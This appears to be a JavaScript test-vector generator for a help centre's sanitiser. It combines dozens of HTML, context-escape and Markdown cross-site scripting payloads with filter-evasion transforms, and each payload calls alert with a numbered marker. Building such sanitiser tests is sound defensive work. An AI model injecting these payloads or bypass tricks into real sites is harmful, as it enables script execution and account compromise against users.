/**
 * Texts that try to run a script: what attackers write into a help centre, made from some seventy
 * beginnings and the ways in which a filter can be led past each of them.
 *
 * Every text calls `alert` with its own number, so that whoever watches `alert` knows which one
 * ran. The list is the same on every run.
 */

/** Where the call of a beginning stands. */
const CALL = "CALL";

/** HTML that runs something when a browser gets it as it is. */
const HTML = [
  "<script>CALL</script>",
  "<script src=\"data:text/javascript,CALL\"></script>",
  "<script>\n<!--\nCALL\n--></script>",
  "<img src=x onerror=CALL>",
  "<img src=\"x\" onerror=\"CALL\">",
  "<img src=x:x onerror='CALL'/>",
  "<img/src=x/onerror=CALL>",
  "<picture><source srcset=x><img src=x onerror=CALL></picture>",
  "<svg onload=CALL>",
  "<svg/onload=CALL//",
  "<svg><script>CALL</script></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:CALL\"><text y=20>press</text></a></svg>",
  "<svg><style><img src=x onerror=CALL></style></svg>",
  "<svg><desc><img src=x onerror=CALL></desc></svg>",
  "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>CALL</script></svg>#x\"></use></svg>",
  "<math href=\"javascript:CALL\">press</math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=CALL&gt;\"></table></mtext></math>",
  "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=CALL></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
  "<iframe src=\"javascript:CALL\"></iframe>",
  "<iframe srcdoc=\"<script>parent.CALL</script>\"></iframe>",
  "<object data=\"javascript:CALL\"></object>",
  "<object type=text/html data=\"data:text/html,<script>parent.CALL</script>\"></object>",
  "<embed src=\"javascript:CALL\">",
  "<a href=\"javascript:CALL\">press</a>",
  "<a href=\" \t javascript:CALL\">press</a>",
  "<a href=\"java\tscript:CALL\">press</a>",
  "<a href=\"java\nscript:CALL\">press</a>",
  "<a href=\"&#106;avascript:CALL\">press</a>",
  "<a href=\"javascript&colon;CALL\">press</a>",
  "<a href=\"\u0001javascript:CALL\">press</a>",
  "<a href='vbscript:CALL'>press</a>",
  "<a href=\"data:text/html,<script>opener.CALL</script>\">press</a>",
  "<area href=\"javascript:CALL\" shape=default>",
  "<form action=\"javascript:CALL\"><input type=submit value=press></form>",
  "<form><button formaction=\"javascript:CALL\">press</button></form>",
  "<input type=image src=x formaction=\"javascript:CALL\">",
  "<details open ontoggle=CALL><summary>x</summary></details>",
  "<details><summary onclick=CALL>press</summary></details>",
  "<video src=x onerror=CALL></video>",
  "<video><source onerror=CALL src=x></video>",
  "<video poster=\"javascript:CALL\" src=x></video>",
  "<audio src=x onerror=CALL></audio>",
  "<body onload=CALL>",
  "<body onpageshow=CALL>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL><option>x</select>",
  "<textarea autofocus onfocus=CALL>x</textarea>",
  "<div tabindex=1 onfocus=CALL>press</div>",
  "<div contenteditable onfocusin=CALL>press</div>",
  "<p onmouseover=CALL>press</p>",
  "<b onclick=CALL>press</b>",
  "<marquee onstart=CALL>x</marquee>",
  "<style>*{background:url(\"javascript:CALL\")}</style>",
  "<style>@keyframes k{}</style><p style=\"animation:k 1s\" onanimationstart=CALL>x</p>",
  "<p style=\"background:url(javascript:CALL)\">x</p>",
  "<p style=\"width:expression(CALL)\">x</p>",
  "<link rel=stylesheet href=\"javascript:CALL\">",
  "<link rel=import href=\"data:text/html,<script>CALL</script>\">",
  "<meta http-equiv=refresh content=\"0;url=javascript:CALL\">",
  "<base href=\"javascript:CALL//\">",
  "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
  "<template><script>CALL</script></template>",
  "<xmp><p title=\"</xmp><img src=x onerror=CALL>\"></xmp>",
  "<textarea><p title=\"</textarea><img src=x onerror=CALL>\"></textarea>",
  "<title><p title=\"</title><img src=x onerror=CALL>\"></title>",
  "<!--><img src=x onerror=CALL>-->",
  "<!-- --!><img src=x onerror=CALL> -->",
  "<![CDATA[><img src=x onerror=CALL>]]>",
  "<?xml ><img src=x onerror=CALL>?>",
  "<table><td background=\"javascript:CALL\">x</table>",
  "<isindex type=image src=x onerror=CALL>",
  "<dialog open><form method=dialog><button onclick=CALL>press</button></form></dialog>",
  "<button popovertarget=p onclick=CALL>press</button><div id=p popover onbeforetoggle=CALL>x</div>",
];

/** What leaves the place it was put in: an attribute, a title, a script, a comment. */
const ESCAPES = [
  "\"><img src=x onerror=CALL>",
  "'><img src=x onerror=CALL>",
  "` onerror=`CALL",
  "\" onmouseover=\"CALL",
  "' onmouseover='CALL",
  "\" autofocus onfocus=\"CALL",
  "x onfocus=CALL autofocus",
  "</title><script>CALL</script>",
  "</script><script>CALL</script>",
  "</style><img src=x onerror=CALL>",
  "</textarea><img src=x onerror=CALL>",
  "--><img src=x onerror=CALL><!--",
  "]]><img src=x onerror=CALL>",
  "\\\"};CALL;//",
  "\\u0022};CALL;//",
  "\u2028CALL\u2029",
  "{{constructor.constructor('CALL')()}}",
  "${CALL}",
  "{% raw %}<script>CALL</script>{% endraw %}",
  "&lt;img src=x onerror=CALL&gt;",
  "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
  "\u003cimg src=x onerror=CALL\u003e",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<<script>CALL//<</script>",
  "＜script＞CALL＜/script＞",
];

/** Markdown that becomes an address or an attribute. */
const MARKDOWN = [
  "[press](javascript:CALL)",
  "[press](<javascript:CALL>)",
  "[press](JaVaScRiPt:CALL)",
  "[press](javascript&#58;CALL)",
  "[press](javascript&colon;CALL)",
  "[press](&#x6A;avascript:CALL)",
  "[press](java%0ascript:CALL)",
  "[press](<java\tscript:CALL>)",
  "[press](\\javascript:CALL)",
  "[press](vbscript:CALL)",
  "[press](data:text/html,<script>opener.CALL</script>)",
  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[press][ref]\n\n[ref]: javascript:CALL",
  "<javascript:CALL>",
  "[press](x \"\\\" onmouseover=\\\"CALL\")",
  "![x](javascript:CALL)",
  "![\" onerror=\"CALL](x.png)",
  "![x](x.png\"onerror=\"CALL)",
  "![x](x.png){onerror=\"CALL\"}",
  "[press](x){onclick=\"CALL\"}",
  "## head {onclick=\"CALL\"}",
  "## head {#x\"onmouseover=\"CALL}",
  ":::note{onclick=\"CALL\"}\nx\n:::",
  ":::note \"><img src=x onerror=CALL>\nx\n:::",
  "```\"><img src=x onerror=CALL>\nx\n```",
  "~~~html\"onmouseover=\"CALL\nx\n~~~",
  "x[^\"><img src=x onerror=CALL>]\n\n[^\"><img src=x onerror=CALL>]: y",
  "[![x](x onerror=CALL)](javascript:CALL)",
  "[press](//javascript:CALL)",
  "[press](https://x\" onmouseover=\"CALL)",
  "{{< figure src=\"x\" onerror=\"CALL\" >}}",
  "[!VIDEO javascript:CALL]",
];

/**
 * Ways to write the same so that a careless filter does not see it.
 * @type {((text: string) => string)[]}
 */
const DISGUISES = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${alternating(name)}`),
  (text) => text.replace(/javascript:/g, "jAvAsCrIpT:").replace(/ on([a-z]+)=/g, (_, name) => ` oN${alternating(name)}=`),
  (text) => text.replace(/ on/g, "/on"),
  (text) => text.replace(/ on/g, "\ton"),
  (text) => text.replace(/ on/g, "\non"),
  (text) => text.replace(/ on/g, "\f on"),
  (text) => text.replace(/=CALL/g, " = CALL"),
  (text) => text.replace(/=CALL/g, "='CALL'"),
  (text) => text.replace(/=CALL/g, "=&#97;l&#101;rt(NUMBER)"),
  (text) => text.replace(/javascript:/g, "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a"),
  (text) => text.replace(/javascript:/g, "javascript&NewLine;:"),
  (text) => text.replace(/javascript:/g, "javascript:/*--></title></style></textarea></script>*/"),
  (text) => text.replace(/javascript:/g, "\u00a0javascript:"),
  (text) => text.replace(/<([a-z])/g, "<\0$1"),
  (text) => text.replace(/<([a-z]+)/g, "<$1 x"),
  (text) => text.replace(/<([a-z]+)/g, "<$1 x='>' y="),
  (text) => text.replace(/>$/, ""),
  (text) => `<b>${text}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `<!-- x --> ${text}`,
  (text) => text.replace(/CALL/g, "window['al'+'ert'](NUMBER)"),
  (text) => text.replace(/CALL/g, "alert`NUMBER`"),
  (text) => text.replace(/CALL/g, "top.alert(NUMBER)"),
];

/** @param {string} word */
function alternating(word) {
  return [...word].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("");
}

/**
 * A text that tries to run a script.
 * @typedef {object} Vector
 * @property {number} number What it calls `alert` with.
 * @property {string} text
 * @property {"html" | "escape" | "markdown"} kind
 */

/**
 * All of them, no two alike.
 * @returns {Vector[]}
 */
export function vectors() {
  /** @type {Map<string, Vector["kind"]>} */
  const kinds = new Map();
  const beginnings = /** @type {[Vector["kind"], string[]][]} */ ([
    ["html", HTML],
    ["escape", ESCAPES],
    ["markdown", MARKDOWN],
  ]);
  for (const disguise of DISGUISES) {
    for (const [kind, texts] of beginnings) {
      for (const text of texts) {
        const disguised = disguise(text);
        if (!kinds.has(disguised)) kinds.set(disguised, kind);
      }
    }
  }
  return [...kinds].map(([text, kind], at) => {
    const number = 1000 + at;
    const call = text.replaceAll(CALL, `alert(${number})`).replaceAll("NUMBER", String(number));
    return { number, text: call, kind };
  });
}
